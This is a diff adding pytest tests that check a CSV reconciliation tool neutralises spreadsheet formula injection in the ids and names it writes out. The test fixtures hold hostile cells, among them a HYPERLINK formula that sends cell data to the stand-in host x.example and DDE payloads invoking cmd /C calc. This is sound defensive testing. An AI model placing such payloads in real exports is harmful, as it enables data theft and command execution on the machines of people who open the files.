@@ -597,3 +597,78 @@ def test_same_sign_keeps_refunds_away_from_purchases(
 
     assert linked() != {("R-1", "BUY")}  # by size, the same-day refund looks better
     assert linked("--same-sign") == {("R-1", "BUY")}
+
+
+# --- output a spreadsheet opens safely -----------------------------------------------------------
+
+HOSTILE_LEFT = (
+    "id,date,amount,name\n"
+    '"=HYPERLINK(""http://x.example/?d=""&A1,""open"")",2026-03-02,100.00,Hetzner Online\n'
+    "-7,2026-03-03,-42.50,=cmd|' /C calc'!A0\n"
+    "@SUM(1+1)*cmd|' /C calc'!A0,2026-03-05,980.00,+Acme Corp\n"
+)
+HOSTILE_RIGHT = (
+    "id,date,amount,name\n"
+    "-99,2026-03-02,100.00,Hetzner Online\n"
+    "+TX-2,2026-03-03,-42.50,=cmd|' /C calc'!A0\n"
+    "-2+3,2026-03-05,980.00,-Acme Corp\n"
+)
+
+
+def test_formula_cells_are_written_as_text_and_negative_numbers_stay_numbers(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Ids and names from an export reach a spreadsheet: none may run as a formula there."""
+    import csv
+
+    left = write(tmp_path, "left.csv", HOSTILE_LEFT)
+    right = write(tmp_path, "right.csv", HOSTILE_RIGHT)
+    out = tmp_path / "pairs.csv"
+    code, _, stderr = run(capsys, "--left", left, "--right", right, "--out", out,
+                          "--currency", "EUR")  # fmt: skip
+    assert code == 0, stderr
+    with out.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    assert len(rows) == 3, rows
+    cells = [value for row in rows for value in row.values()]
+    runnable = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not _is_number(c)]
+    assert runnable == []
+    pairs = {(r["left_id"], r["right_id"]) for r in rows}
+    assert pairs == {
+        ('\'=HYPERLINK("http://x.example/?d="&A1,"open")', "-99"),
+        ("-7", "'+TX-2"),
+        ("'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3"),
+    }
+    names = {r["left_name"] for r in rows} | {r["right_name"] for r in rows}
+    assert "'=cmd|' /C calc'!A0" in names and "'-Acme Corp" in names
+    # The money columns are still numbers a spreadsheet can sum.
+    read = pd.read_csv(out, encoding="utf-8-sig")
+    assert read["left_amount"].dtype.kind == "f" and read["left_amount"].min() == -42.5
+    assert read["left_id"].astype(str).tolist().count("-7") == 1
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text.replace(",", "."))
+    except ValueError:
+        return False
+    return True
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("@A1", "'@A1"),
+        ("+49 30 1234", "'+49 30 1234"),
+        ("-", "'-"),
+        ("-12.50", "-12.50"),
+        ("-3", "-3"),
+        ("Acme = best", "Acme = best"),
+        ("", ""),
+    ],
+)
+def test_spreadsheet_safe_quotes_only_cells_that_would_run(cell: str, written: str) -> None:
+    assert files.spreadsheet_safe(cell) == written
